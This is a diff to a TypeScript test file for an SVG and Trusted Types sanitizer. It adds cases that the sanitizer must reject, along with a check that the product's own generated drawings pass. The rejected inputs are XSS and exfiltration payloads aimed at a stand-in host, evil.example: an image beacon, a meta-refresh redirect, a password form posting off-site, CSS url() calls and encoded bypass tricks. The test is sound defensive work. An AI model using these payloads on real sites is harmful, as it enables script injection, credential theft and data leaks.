@@ -1,3 +1,4 @@
+import { bloom, CATEGORIES, picture, posy, spot } from '@posy/shared-ui/art';
 import { enforceTrustedTypes, isDrawing, isScriptAddress } from './trusted-types';
 
 const origin = 'https://posy.example';
@@ -24,8 +25,30 @@ it.each([
   ['<svg><a href="javascript:alert(1)"><path/></a></svg>', false],
   ['<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', false],
   ['<img src=x onerror=alert(1)>', false],
+  ['<svg></svg><img src="https://evil.example/seen">', false],
+  ['<svg></svg><meta http-equiv="refresh" content="0;url=https://evil.example">', false],
+  ['<svg></svg><form action="https://evil.example"><input name="password"></form>', false],
+  ['<svg><<g>img src=x></svg>', false],
+  ['<svg><path style="background:url(https://evil.example)"/></svg>', false],
+  ['<svg><path fill="url(https://evil.example/#a)"/></svg>', false],
+  ['<svg><path fill="&#117;rl(https://evil.example/#a)"/></svg>', false],
+  ['<svg><!-- <g> --><path d="M0 0"/></svg>', false],
   ['Hello <b>you</b>', false],
 ])('is %s a drawing: %s [H-18]', (markup, isOne) => expect(isDrawing(markup)).toBe(isOne));
+
+it('lets every drawing of the product through [H-18]', () => {
+  const drawings = [
+    ...CATEGORIES.flatMap((category) =>
+      [0, 1, 2].map((palette) => picture({ category, seed: palette, palette, label: 'A &quot;view&quot; &amp; more' })),
+    ),
+    ...[0, 0.5, 1].map((progress) => posy({ seed: 'a', progress, before: 0, label: 'Half', night: progress === 1 })),
+    ...(['daisy', 'poppy', 'cosmos', 'peony', 'ranunculus', 'tulip', 'umbel', 'bell'] as const).map((kind) =>
+      bloom({ seed: 1, kind }),
+    ),
+    ...(['notes', 'guests', 'inbox', 'search', 'failed', 'tasks'] as const).map((kind) => spot({ kind })),
+  ];
+  expect(drawings.filter((drawing) => !isDrawing(drawing))).toEqual([]);
+});
 
 it('is the one policy of the page, and no fault where a browser has none', () => {
   const policies: string[] = [];
